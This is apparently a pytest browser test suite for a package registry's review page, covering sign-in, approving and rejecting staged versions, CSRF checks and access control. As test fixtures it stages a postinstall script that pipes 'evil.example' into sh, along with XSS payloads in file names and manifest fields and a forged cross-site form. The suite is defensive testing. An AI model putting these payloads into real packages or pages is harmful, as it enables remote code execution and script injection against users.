"""The review page (``/-/web/``) in a real headless Chromium, end to end.

A maintainer signs in with a one-time password, finds a staged version, reads its
review, approves it with a code (then ``npm view`` shows it published), rejects another
with a reason, and sees both in the history. JavaScript is off, as the page must work
without it. Hostile file names and manifest strings render as text; a POST without the
CSRF token, or from another site, is refused; a non-maintainer sees a 404.
"""

from __future__ import annotations

import subprocess
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from fixtures_browser import LAPTOP, PHONE, screenshot
from helpers import requires_npm, start_registry

# Chromium: `make test-slow` (after `make browser`), not `make test`
pytestmark = pytest.mark.slow

HOSTILE_FILE = '<img src=x onerror=alert("file")>.js'
BIDI_FILE = "readme\u202egpj.js"
HOSTILE_DESCRIPTION = '</dd><script>alert("description")</script>'
HOSTILE_DEPENDENCY = '"><svg onload=alert("dep")>'


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    server = start_registry(tmp_path_factory.mktemp("review-page") / "registry")
    try:
        # "auth-only": publishing asks no code, so the few the test spends come quickly
        # (the registry takes three per 30 s window)
        alice = server.add_user("alice", "alice password", tfa="auth-only")
        server.publish(alice, "greet-web", "1.0.0", files={"index.js": "module.exports = 1;\n"})
        approve_id = server.stage(
            alice,
            "greet-web",
            "1.1.0",
            files={"index.js": "module.exports = 2;\n", "lib/util.js": "exports.x = 1;\n"},
            manifest={"scripts": {"postinstall": "curl -s https://evil.example/x | sh"}},
        )
        reject_id = server.stage(alice, "greet-web", "1.2.0-beta.0", tag="beta")
        carol = server.add_user("carol", "carol password", tfa="auth-only")
        server.publish(carol, "odd-files", "1.0.0")
        hostile_id = server.stage(
            carol,
            "odd-files",
            "1.1.0",
            files={HOSTILE_FILE: "x\n", BIDI_FILE: "y\n", "<b>dir</b>/a.js": "z\n"},
            manifest={
                "description": HOSTILE_DESCRIPTION,
                "dependencies": {HOSTILE_DEPENDENCY: "^1.0.0"},
            },
        )
        bob = server.add_user("bob", "bob password")
        server.publish(bob, "bobs-own", "1.0.0")
        server.stage(bob, "bobs-own", "1.0.1")
        yield {
            "server": server,
            "alice": alice,
            "bob": bob,
            "carol": carol,
            "approve_id": approve_id,
            "reject_id": reject_id,
            "hostile_id": hostile_id,
        }
    finally:
        server.stop()


def sign_in(page, server, user, otp=None):
    page.goto(server.url + "-/web/")
    assert "/-/web/signin" in page.url  # signed out: the list sends you to sign in
    page.fill("#name", user.name)
    page.fill("#password", user.password)
    if otp is not None:
        page.fill("#otp", otp)
    submit(page, "form.stack button[type=submit]")


def submit(page, selector):
    """Click a form's button and wait for the page the server answers with."""
    with page.expect_navigation():
        page.click(selector)


@pytest.fixture(scope="module")
def carol_signed_in(site, chromium):
    """Carol's cookies after one sign-in, for the tests that start signed in."""
    context = chromium.new_context(java_script_enabled=False)
    try:
        page = context.new_page()
        sign_in(page, site["server"], site["carol"], site["server"].totp_code(site["carol"]))
        assert page.url.endswith("/-/web/")
        return context.storage_state()
    finally:
        context.close()


def staged_on_api(server, user, stage_id) -> int:
    return server.request("GET", f"-/stage/{stage_id}", user).status_code


@requires_npm()
def test_sign_in_review_approve_and_reject_in_a_browser(site, new_page, tmp_path):
    server, alice = site["server"], site["alice"]
    page = new_page()
    sign_in(page, server, alice, server.totp_code(alice))
    assert page.url.endswith("/-/web/"), page.inner_text("main")
    rows = page.locator("table.staged tbody tr")
    assert rows.count() == 2
    assert "greet-web@1.1.0" in page.inner_text("table.staged")
    assert page.locator("text=bobs-own").count() == 0  # only what alice maintains
    screenshot(page, "list-laptop")
    page.set_viewport_size(PHONE)
    screenshot(page, "list-phone")
    page.set_viewport_size(LAPTOP)

    # find the staged version and read what it holds
    submit(page, "a:has-text('greet-web@1.1.0')")
    assert page.url.endswith(f"/-/web/stage/{site['approve_id']}")
    details = page.inner_text("main")
    assert "postinstall" in details and "curl -s https://evil.example/x | sh" in details
    assert "lib/" in page.inner_text("#files") and "util.js" in page.inner_text("#files")
    assert page.locator("dt.warn", has_text="postinstall").count() == 1
    # the review engine's findings: the new install script is high, naming the field
    high = page.locator("#review li.finding.high")
    assert high.count() >= 1
    assert "scripts.postinstall" in " ".join(high.all_inner_texts())
    changes = page.inner_text("#review table.changes")
    assert "lib/util.js" in changes and "index.js" in changes
    screenshot(page, "item-laptop")
    page.set_viewport_size(PHONE)
    screenshot(page, "item-phone")
    page.set_viewport_size(LAPTOP)

    # a wrong code is refused with a message, nothing published
    page.fill("#approve-otp", "000000")
    submit(page, "form.approve button")
    assert "wrong or was already used" in page.inner_text("#action-error")
    assert staged_on_api(server, alice, site["approve_id"]) == 200

    page.fill("#approve-otp", server.totp_code(alice))
    submit(page, "form.approve button")
    assert "/-/web/history?package=greet-web" in page.url
    assert "greet-web@1.1.0 published" in page.inner_text(".flash.ok")
    npmrc = server.write_npmrc(tmp_path / "npmrc")
    shown = subprocess.run(
        ["npm", "view", "greet-web@1.1.0", "version", "--userconfig", str(npmrc)],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert shown.stdout.strip() == "1.1.0", shown.stderr

    # reject another with a reason
    page.goto(server.url + f"-/web/stage/{site['reject_id']}")
    page.fill("#reject-reason", "beta built from the wrong branch")
    page.fill("#reject-otp", server.totp_code(alice))
    submit(page, "form.reject button")
    assert "greet-web@1.2.0-beta.0 rejected" in page.inner_text(".flash.ok")
    assert staged_on_api(server, alice, site["reject_id"]) == 404

    # both in the history, with who did it
    history = page.inner_text("table.events")
    assert "approve" in history and "1.1.0" in history
    assert "reject" in history and "1.2.0-beta.0" in history
    assert "alice" in history
    screenshot(page, "history-laptop")


def test_hostile_names_render_as_text(site, new_page, carol_signed_in):
    server = site["server"]
    # JavaScript on: had anything been injected, it would run here
    page = new_page(javascript=True, state=carol_signed_in)
    dialogs = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    response = page.goto(server.url + f"-/web/stage/{site['hostile_id']}")
    assert "script-src" not in response.headers["content-security-policy"]
    assert "default-src 'none'" in response.headers["content-security-policy"]
    files = page.inner_text("#files")
    assert HOSTILE_FILE in files
    assert "<b>dir<" in files and "b>/" in files  # folders "<b>dir<" and "b>"
    assert "readmeU+202Egpj.js" in files  # the override is shown, not obeyed
    text = page.inner_text("main")
    assert HOSTILE_DESCRIPTION in text and HOSTILE_DEPENDENCY in text
    assert page.locator("main script, main img, main svg, main b").count() == 0
    assert dialogs == []
    screenshot(page, "item-hostile")


def test_a_post_without_the_csrf_token_is_refused(site, new_page, carol_signed_in):
    server, carol = site["server"], site["carol"]
    page = new_page(state=carol_signed_in)
    url = server.url + f"-/web/stage/{site['hostile_id']}/approve"
    # the browser's own cookies, but no token in the form
    answer = page.request.post(url, form={"otp": "123456"})
    assert answer.status == 403
    assert "CSRF" in answer.text()
    assert staged_on_api(server, carol, site["hostile_id"]) == 200


def test_a_form_on_another_site_cannot_act_for_a_signed_in_maintainer(
    site, new_page, carol_signed_in
):
    server, carol = site["server"], site["carol"]
    page = new_page(state=carol_signed_in)
    target = server.url + f"-/web/stage/{site['hostile_id']}/reject"
    attacker = _serve_html(
        f'<form method="post" action="{target}"><input name="reason" value="pwned">'
        '<input name="csrf" value="guess"><button>win a prize</button></form>'
    )
    try:
        page.goto(attacker.url)  # http://localhost:<port>/: another site than 127.0.0.1
        submit(page, "button")
        assert page.locator("h1").inner_text() == "Refused"
    finally:
        attacker.shutdown()
    assert staged_on_api(server, carol, site["hostile_id"]) == 200


def test_a_non_maintainer_sees_a_404(site, new_page):
    server, bob = site["server"], site["bob"]
    page = new_page()
    sign_in(page, server, bob)
    assert "bobs-own@1.0.1" in page.inner_text("table.staged")
    assert "greet-web" not in page.inner_text("main") and "odd-files" not in page.inner_text("main")
    response = page.goto(server.url + f"-/web/stage/{site['hostile_id']}")
    assert response.status == 404
    unknown = page.goto(server.url + "-/web/stage/00000000-0000-4000-8000-000000000000")
    assert unknown.status == 404
    assert page.inner_text("main") == page.inner_text("main")
    history = page.goto(server.url + "-/web/history?package=greet-web")
    assert history.status == 404


class _Page(BaseHTTPRequestHandler):
    body = b""

    def do_GET(self):
        self.send_response(200)
        self.send_header("content-type", "text/html")
        self.end_headers()
        self.wfile.write(self.body)

    def log_message(self, *args):
        pass


def _serve_html(html: str):
    handler = type("AttackerPage", (_Page,), {"body": html.encode()})
    httpd = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    httpd.url = f"http://localhost:{httpd.server_address[1]}/"
    threading.Thread(
        target=httpd.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True
    ).start()
    return httpd
